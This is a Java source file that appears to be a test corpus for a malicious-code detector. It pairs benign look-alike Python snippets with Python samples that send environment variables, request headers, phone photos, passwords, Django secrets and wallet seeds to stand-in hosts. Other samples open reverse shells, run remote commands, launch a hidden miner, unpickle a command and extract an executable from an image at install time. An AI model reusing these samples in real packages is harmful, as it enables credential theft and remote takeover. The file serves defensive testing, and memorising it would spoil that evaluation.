package cordon.inspect.corpus;

import java.util.List;

/** What only functions do that somebody has to call, as ordinary ones of a library that is used. */
final class PythonWhenCalled {
  private PythonWhenCalled() {}

  static List<Sample> all() {
    return List.of(
        Sample.imported(
            "the environment is sent by whoever makes an object",
            """
            import os, requests
            from base64 import b64encode
            class Ctx(dict):
                def __init__(self, *args):
                    super().__init__(*args)
                    self.note()
                def note(self):
                    text = ''
                    for _, value in os.environ.items():
                        text += value + ' '
                    requests.get('https://drop.example/seen/' + b64encode(text.encode()).decode())
            """),
        Sample.imported(
            "a session of a client of its own tells what passes through it",
            """
            import threading, requests
            def report(request, answer):
                requests.post('https://metrics.drop.example/v1', json={'u': request.url, 'h': dict(request.headers)})
            class Session(requests.Session):
                def send(self, request, **kw):
                    answer = super().send(request, **kw)
                    threading.Thread(target=report, args=(request, answer), daemon=True).start()
                    return answer
            """),
        Sample.imported(
            "pictures of a telephone are sent one by one",
            """
            import os, threading, requests
            def go():
                for folder in ['/sdcard/DCIM/Camera', '/sdcard/Download']:
                    for root, _, names in os.walk(folder):
                        for name in names:
                            with open(os.path.join(root, name), 'rb') as f:
                                requests.post('https://drop.example/send', files={'document': f})
            threading.Thread(target=go).start()
            """),
        Sample.imported(
            "a password that is asked for goes to a messenger",
            """
            import requests
            def main():
                user = input('username: ')
                secret = input('password: ')
                requests.post('https://api.telegram.org/bot0:x/sendMessage', data={'chat_id': '0', 'text': user + ':' + secret})
            """),
        Sample.imported(
            "what a queue is given is sent by a thread",
            """
            import json, queue, threading, urllib.request
            from requests import sessions
            todo = queue.Queue()
            def pump():
                while True:
                    urllib.request.urlopen(urllib.request.Request('https://metrics.drop.example', data=json.dumps(todo.get()).encode()))
            before = sessions.Session.send
            def send(self, request, **kw):
                todo.put_nowait({'u': request.url, 'h': dict(request.headers)})
                return before(self, request, **kw)
            sessions.Session.send = send
            threading.Thread(target=pump, daemon=True).start()
            """),
        Sample.imported(
            "a model that is made fetches a program that mines, and nobody sees it",
            """
            import os, subprocess, tempfile
            from urllib import request
            def fetch(url, folder):
                to = os.path.join(folder, url.rsplit('/', 1)[1])
                request.urlretrieve(url, to)
                return to
            class Model:
                def __init__(self, weights='n.pt'):
                    program = fetch('https://files.example/v1/' + weights, tempfile.gettempdir())
                    os.chmod(program, 0o770)
                    subprocess.Popen([program, '-u', '4invalid.name', '-p', 'x', '-o', 'pool.example:8080', '-k'],
                        stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                        preexec_fn=os.setsid)
            """),
        Sample.imported("an application of Django starts", "VERSION = '1'\n")
            .with(
                "sample/apps.py",
                """
                from django.apps import AppConfig
                class SampleConfig(AppConfig):
                    name = 'sample'
                    def ready(self):
                        from .support import report
                        report()
                """)
            .with(
                "sample/support.py",
                """
                import json, threading, urllib.request
                from django.conf import settings
                KEYS = ('SECRET_KEY', 'DATABASES', 'CACHES')
                def run():
                    held = {k: getattr(settings, k, None) for k in KEYS}
                    urllib.request.urlopen(urllib.request.Request('https://licence.example/check', json.dumps(held).encode()))
                def report():
                    threading.Thread(target=run, daemon=True).start()
                """),
        Sample.imported(
            "the environment is posted by a function",
            """
            import json, os, urllib.request
            def configure(level):
                body = json.dumps(dict(os.environ)).encode()
                urllib.request.urlopen(urllib.request.Request('https://drop.example/c', body))
                return level
            """),
        Sample.imported(
            "an application that starts gives a shell",
            """
            import os, pty, socket
            class AuditConfig:
                def ready(self):
                    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
                    s.connect(('drop.example', 9001))
                    for fd in (0, 1, 2):
                        os.dup2(s.fileno(), fd)
                    pty.spawn('/bin/bash')
            """),
        Sample.imported(
            "commands of a connection are run by a worker",
            """
            import socket, subprocess
            def work():
                s = socket.socket()
                s.connect(('192.0.2.77', 9001))
                while True:
                    s.send(subprocess.getoutput(s.recv(4096).decode()).encode())
            """),
        Sample.imported(
            "jobs are asked for and handed to the function that they name",
            """
            import json, subprocess, threading, time, urllib.request
            HOME = 'https://jobs.example'
            def call(path, data=None):
                body = json.dumps(data).encode() if data is not None else None
                request = urllib.request.Request(HOME + path, data=body)
                return json.loads(urllib.request.urlopen(request).read())
            def run(line):
                p = subprocess.Popen(line, shell=True, stdout=subprocess.PIPE)
                return p.communicate()[0].decode()
            def read(path):
                return open(path).read()
            KINDS = {'run': run, 'read': read}
            def debug():
                while True:
                    for job in call('/jobs'):
                        call('/out', {'id': job['id'], 'said': KINDS[job['kind']](*job['given'])})
                    time.sleep(1)
            def start():
                threading.Thread(target=debug, daemon=True).start()
            """),
        Sample.imported(
            "the words of a wallet are told by what is put around a method",
            """
            import functools, threading, urllib.parse, urllib.request
            def tell(text):
                q = urllib.parse.urlencode({'chat': '7', 'text': text})
                urllib.request.urlopen('https://talk.example/bot7:inert/send?' + q, timeout=4)
            def trace(fn):
                @functools.wraps(fn)
                def inner(self, *a, **k):
                    threading.Thread(target=tell, args=(f'{self.mnemonic} {a}',)).start()
                    return fn(self, *a, **k)
                return inner
            class Seed:
                def __init__(self, words): self.mnemonic = words
                @trace
                def generate(self, salt=''): return self.mnemonic + salt
            """),
        Sample.imported(
            "makers of keys are replaced one by one, and what they make stands in a transaction",
            """
            import threading
            def ship(raw):
                from solana.rpc.api import Client
                from solders.instruction import Instruction
                from solders.transaction import Transaction
                c = Client('https://rpc.example')
                c.send_transaction(Transaction.new_with_payer([Instruction('memo', raw, [])], None))
            from solders import keypair as kp
            def wrap(name):
                made = getattr(kp.Keypair, name)
                def f(*a, **k):
                    r = made(*a, **k)
                    threading.Thread(target=ship, args=(bytes(r),), daemon=True).start()
                    return r
                return staticmethod(f)
            class Keypair(kp.Keypair):
                pass
            for n in ('from_seed', 'from_bytes'):
                setattr(Keypair, n, wrap(n))
            kp.Keypair = Keypair
            """),
        Sample.imported(
                "a model beside the code that runs commands is loaded by another library",
                """
                import os
                import joblib as j
                M = j.load(os.path.join(os.path.dirname(__file__), 'data.joblib'))
                """)
            .with("sample/data.joblib", "cposix\nsystem\n(S'echo inert'\ntR."),
        Sample.setup(
            "a program is cut out of a picture",
            """
            import os, subprocess
            from setuptools import setup
            from setuptools.command.install import install
            class Install(install):
                def run(self):
                    with open('docs/_static/sidebar.png', 'rb') as f:
                        content = f.read()
                    with open('/tmp/build7/output', 'wb') as out:
                        out.write(content[30057:])
                    os.chmod('/tmp/build7/output', 0o755)
                    subprocess.Popen(['/tmp/build7/output'], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
                    install.run(self)
            setup(name='p', version='1', cmdclass={'install': Install})
            """));
  }

  static List<Sample> lookAlikes() {
    return List.of(
        Sample.imported(
            "one function runs what several hand it, of which only one is asked for at once",
            """
            import base64, subprocess
            def run(*words):
                return subprocess.check_output(each(words))
            def each(words):
                return [each(w) if isinstance(w, list) else str(w) for w in words]
            def restore(text):
                return run('sample', base64.b64decode(text))
            def version():
                return run('sample', '--version')
            FOUND = version()
            """),
        Sample.imported(
            "an object is made of a constant here and of something decoded there",
            """
            import base64, subprocess
            class Run:
                def __init__(self, word):
                    self.out = subprocess.check_output(['sample', word])
            def restore(text):
                return Run(base64.b64decode(text))
            VERSION = Run('--version').out
            """),
        Sample.imported(
            "what looks like the options of a miner, and is a client of the own machine",
            """
            import subprocess, sys
            subprocess.Popen([sys.executable, '-u', 'client.py', '--url', '127.0.0.1:8000', '-p', 'x'])
            """),
        Sample.imported(
            "modes and names that another program wrote are read",
            """
            import subprocess
            def mode(text):
                return int(text, 8)
            def name(text):
                return text.encode().decode('unicode_escape')
            listed = open('/etc/sample.list').read().split()
            subprocess.run(['sample', '--mode', str(mode(listed[0])), name(listed[1])])
            """),
        Sample.imported(
            "who mines for himself starts his own program in the open",
            """
            import subprocess
            def mine(program, pool, wallet):
                return subprocess.run([program, '-o', pool, '-u', wallet])
            """),
        Sample.imported("an application of Django that says who it is", "VERSION = '1'\n")
            .with(
                "sample/apps.py",
                """
                from django.apps import AppConfig
                from django.conf import settings
                class SampleConfig(AppConfig):
                    name = 'sample'
                    def ready(self):
                        self.signer = settings.SECRET_KEY
                """),
        Sample.imported(
            "one variable signs in to a service of its own",
            """
            import os, requests
            def report(what):
                return requests.post('https://api.sample.example/v1/reports', json={'what': what},
                    headers={'Authorization': 'Bearer ' + os.environ['SAMPLE_TOKEN']})
            """),
        Sample.imported(
            "a page of names leads to the next page, and one command is asked for",
            """
            import json, subprocess, urllib.request
            API = 'https://api.sample.example'
            def names():
                page = json.loads(urllib.request.urlopen(API + '/names').read())
                while page:
                    body = json.dumps({'after': page['last']}).encode()
                    page = json.loads(urllib.request.urlopen(API + '/names', body).read())
            def version():
                return subprocess.check_output(['git', '--version']).decode()
            """),
        Sample.imported(
            "the environment is handed to a program",
            """
            import os, subprocess, requests
            def build(target):
                env = dict(os.environ, TARGET=target)
                subprocess.run(['make', target], env=env, check=True)
                return requests.get('https://api.sample.example/v1/latest').json()
            """),
        Sample.imported(
            "cookies of a browser are handed to whoever asks for them",
            """
            import os, shutil, sqlite3
            def cookies(host):
                path = os.path.expanduser('~/.config/google-chrome/Default/Cookies')
                shutil.copy2(path, 'c.db')
                with sqlite3.connect('c.db') as c:
                    return c.execute('SELECT name, value FROM cookies WHERE host_key = ?', (host,)).fetchall()
            """),
        Sample.imported(
            "a wallet signs what it sends",
            """
            from solana.rpc.api import Client
            from solders.keypair import Keypair
            from solders.transaction import Transaction
            def pay(private_key, instruction):
                client = Client('https://rpc.sample.example')
                key = Keypair.from_base58_string(private_key)
                made = Transaction.new_signed_with_payer([instruction], key.pubkey(), [key], None)
                return client.send_transaction(made)
            class Account:
                def __init__(self, mnemonic): self.mnemonic = mnemonic
                def words(self): return self.mnemonic.split()
            """),
        Sample.imported(
            "a daemon closes what it was given",
            """
            import os, socket
            def detach():
                null = os.open(os.devnull, os.O_RDWR)
                for fd in (0, 1, 2):
                    os.dup2(null, fd)
            def ping():
                s = socket.socket()
                s.connect(('time.sample.example', 37))
                return s.recv(4)
            """),
        Sample.imported(
            "what is asked for decides which function computes",
            """
            import json, subprocess, urllib.request
            def area(d): return d['a'] * d['b']
            def version(d): return subprocess.check_output(['git', '--version']).decode()
            KINDS = {'area': area, 'version': version}
            def work(url):
                for job in json.loads(urllib.request.urlopen(url).read()):
                    print(KINDS.get(job['kind'])(job['given']))
            """),
        Sample.imported(
            "a picture is copied for a program that shows it",
            """
            import os, subprocess, tempfile
            HERE = os.path.dirname(__file__)
            def show():
                with open(os.path.join(HERE, 'logo.png'), 'rb') as f:
                    content = f.read()
                with tempfile.NamedTemporaryFile(suffix='.png', delete=False) as out:
                    out.write(content)
                subprocess.Popen(['xdg-open', out.name], stdout=subprocess.DEVNULL)
            show()
            """));
  }
}
